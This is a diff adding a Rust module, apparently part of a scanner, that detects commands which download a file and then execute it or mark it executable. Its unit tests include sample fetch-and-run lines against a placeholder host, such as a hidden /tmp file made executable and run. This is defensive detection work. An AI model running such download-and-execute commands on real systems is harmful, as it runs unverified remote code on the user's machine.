@@ -1,0 +1,124 @@
+//! A file that is downloaded in one command and run in one of the next.
+//!
+//! No pattern can say "the same name again", so this is done by hand: the name under which a download is stored, and whether one of the
+//! following lines runs it or makes it a program.
+
+use super::Hit;
+use super::context::Context;
+use super::words::View;
+
+const SAYS: &str = "It downloads something and runs it.";
+
+/// How far behind the download it is looked for, in bytes and lines.
+const REACH: usize = 600;
+const LINES: usize = 8;
+
+/// All downloads that are run afterwards.
+pub(super) fn find(view: &View, context: &Context<'_>) -> Vec<Hit> {
+    let mut hits = Vec::new();
+    let starts = ["curl ", "wget ", "iwr ", "invoke-webrequest ", "fetch ", "aria2c "];
+    for start in starts.iter().flat_map(|word| view.text.match_indices(word)).map(|(at, _)| at) {
+        let rest = crate::text::cut_bytes(view.text.get(start..).unwrap_or_default(), REACH);
+        let command = rest.get(..rest.find(['\n', ';', '&', '|']).unwrap_or(rest.len())).unwrap_or_default();
+        let after = rest.get(command.len()..).unwrap_or_default();
+        let Some(name) = stored_as(command) else { continue };
+        if let Some(end) = run(after, name) {
+            let at = view.origin(start)..view.origin(start + command.len() + end);
+            if !context.is_warning(&at) {
+                hits.push(Hit { rule: "download", at, says: SAYS });
+            }
+        }
+    }
+    hits
+}
+
+/// The last part of the path under which a download is stored.
+fn stored_as(command: &str) -> Option<&str> {
+    let words: Vec<&str> = command.split_whitespace().map(|word| word.trim_matches(['"', '\'', '`'])).collect();
+    let named = words.iter().zip(words.iter().skip(1)).find_map(|(option, value)| {
+        let is_output = matches!(*option, "-o" | "--output" | "-outfile" | ">" | "--output-document")
+            || option.starts_with('-') && !option.starts_with("--") && option.ends_with('o');
+        (is_output && !value.contains("://")).then_some(*value)
+    });
+    let path = named.or_else(|| words.iter().rev().copied().find(|word| word.contains("://")))?;
+    let name = path.rsplit(['/', '\\']).next()?.split('?').next()?;
+    (!name.is_empty() && name != "-").then_some(name)
+}
+
+/// The end of the first place where a file of that name is run.
+fn run(after: &str, name: &str) -> Option<usize> {
+    for (at, _) in after.match_indices(name) {
+        let before = after.get(..at)?;
+        if before.matches('\n').count() > LINES {
+            return None;
+        }
+        let command = before.get(before.rfind(['\n', ';', '&', '|', '`']).map_or(0, |end| end + 1)..)?;
+        let ends = after
+            .get(at + name.len()..)?
+            .starts_with(|c: char| !(c.is_alphanumeric() || matches!(c, '.' | '-' | '_' | '/')));
+        if (ends || at + name.len() == after.len()) && runs(command) {
+            return Some(at + name.len());
+        }
+    }
+    None
+}
+
+/// Whether a command that goes on with the path of a file runs it.
+fn runs(command: &str) -> bool {
+    let mut words: Vec<&str> = command.trim_start_matches(['`', '$', '>', ' ', '\t', '-']).split_whitespace().collect();
+    // The folder in which it lies.
+    let folder = if command.ends_with(['/', '\\']) { words.pop() } else { None };
+    words.retain(|word| *word != "sudo" && *word != "nohup");
+    match words.first() {
+        None => folder.is_some(),
+        Some(&"chmod") => words.iter().any(|word| word.contains('x') || word.starts_with('7')),
+        Some(first) => {
+            let program = first.rsplit('/').next().unwrap_or(first);
+            matches!(
+                program,
+                "sh" | "bash"
+                    | "zsh"
+                    | "dash"
+                    | "source"
+                    | "."
+                    | "perl"
+                    | "ruby"
+                    | "node"
+                    | "php"
+                    | "powershell"
+                    | "pwsh"
+                    | "start"
+                    | "msiexec"
+                    | "open"
+            ) || program.starts_with("python")
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn count(text: &str) -> usize {
+        find(&View::of(text), &Context::of(text)).len()
+    }
+
+    #[test]
+    fn what_is_stored_and_run_is_found() {
+        for text in [
+            "wget http://x.example/a.sh && bash a.sh",
+            "curl -o /tmp/.t https://x.example/b\nchmod +x /tmp/.t\n/tmp/.t",
+            "curl -sLO https://x.example/run.py; python3 run.py",
+            "wget -q x.example/b -O /tmp/b; /tmp/b &",
+        ] {
+            assert_eq!(count(text), 1, "{text}");
+        }
+        for text in [
+            "curl -o data.csv https://x.example/d\npython3 plot.py",
+            "wget https://x.example/a.tar.gz\ntar xzf a.tar.gz",
+            "curl https://x.example/bash",
+        ] {
+            assert_eq!(count(text), 0, "{text}");
+        }
+    }
+}
